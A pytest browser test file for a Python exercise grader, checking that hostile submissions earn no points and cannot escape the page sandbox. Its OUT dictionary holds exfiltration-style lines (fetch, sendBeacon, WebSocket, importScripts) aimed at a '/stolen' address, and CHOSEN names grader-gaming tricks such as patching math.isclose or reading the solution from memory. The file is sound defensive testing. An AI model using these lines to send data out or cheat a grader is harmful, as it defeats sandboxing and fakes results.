"""Hostile answers in the page: none earns a point, none reaches the network, and whoever comes
after gets what is due."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.browser.exercising import Solver, page_of
from tests.browser.figures import hurried
from tests.conftest import sample
from tests.exercises.attacks import ATTACKS, WRONG

ID = "missed-revolution"
CHOSEN = [  # one of each kind, and what has to do with pages
    "ends: os._exit",
    "ends: close",
    "ends: outcomes.Exit",
    "patches: math.isclose",
    "patches: builtins",
    "patches: check",
    "patches: the reply",
    "patches: the namespace",
    "patches: the import hook",
    "patches: the page",
    "reads: the solution with clean modules",
    "reads: the wanted value in a frame",
    "reads: the solution in memory",
    "returns: a float that equals all",
    "returns: a depth of lists",
    "forges: a verdict to the page",
    "floods: a loop that holds on",
    "floods: workers",
    "floods: timers",
    "leaves: run_js",
    "is: half a pair",
]
OUT = {
    "fetch": "js.fetch(AT)",
    "beacon": "js.navigator.sendBeacon(AT)",
    "socket": "js.WebSocket.new(AT.replace('http', 'ws'))",
    "request": "r = js.XMLHttpRequest.new(); r.open('GET', AT, False); r.send()",
    "events": "js.EventSource.new(AT)",
    "script": "js.importScripts(AT)",
    "worker": "js.Worker.new(AT)",
    "pyodide": "from pyodide.http import open_url; open_url(AT)",
    "load": "import pyodide_js; pyodide_js.loadPackage(AT + '.whl')",
}
KEPT = {
    "database": "js.indexedDB.open('wtg')",
    "storage": "js.localStorage.clear()",
    "caches": "js.caches.keys()",
    "files": "js.navigator.storage.getDirectory()",
    "channel": "js.BroadcastChannel.new('wtg').postMessage('x')",
    "frame": "js.parent.document.title",
}


def hostile(lines):
    """A program that tries each line."""
    return (
        "import js\n"
        + "".join(f"try:\n    {line}\nexcept BaseException:\n    pass\n" for line in lines.values())
        + WRONG
    )


@pytest.fixture
def solver(site, open_page, watch):
    page = open_page(site + page_of(ID))
    yield Solver(page, ID)
    watch.errors.clear()  # a browser complains of what is refused
    watch.requests.clear()


@pytest.fixture
def elsewhere():
    """A server of somebody else's: its address, and what it was asked for."""
    asked = []

    class Note(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Note) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/", asked
        server.shutdown()


def test_no_attack_earns_a_point_and_the_next_answer_gets_what_is_due(solver):
    for name in sample(CHOSEN, CHOSEN[::7]):
        solver.write(ATTACKS[name])
        with hurried(solver.page):
            solver.check()
        assert " 0 of 13 points" in solver.line or solver.line.startswith("Not checked"), (
            name,
            solver.line,
        )
    solver.write(solver.exercise.solution(1))
    solver.check()
    assert solver.line.startswith("Passed")


def test_a_program_reaches_no_network_and_nothing_that_the_page_keeps(solver, elsewhere):
    address, asked = elsewhere
    solver.page.evaluate(
        """address => {
        localStorage.setItem('mine', 'x');
        window.heard = [];
        new BroadcastChannel('wtg').onmessage = ({data}) => window.heard.push(data);
        return fetch(address + 'heard');
    }""",
        address,
    )
    for lines in (OUT, KEPT):
        solver.write(hostile(lines).replace("AT", repr(address + "stolen")))
        solver.check()
        assert " 0 of 13 points" in solver.line
    assert asked == ["/heard"]
    kept = "async () => [localStorage.getItem('mine'), window.heard, (await indexedDB.databases()).map(d => d.name)]"
    assert solver.page.evaluate(kept) == ["x", [], []]
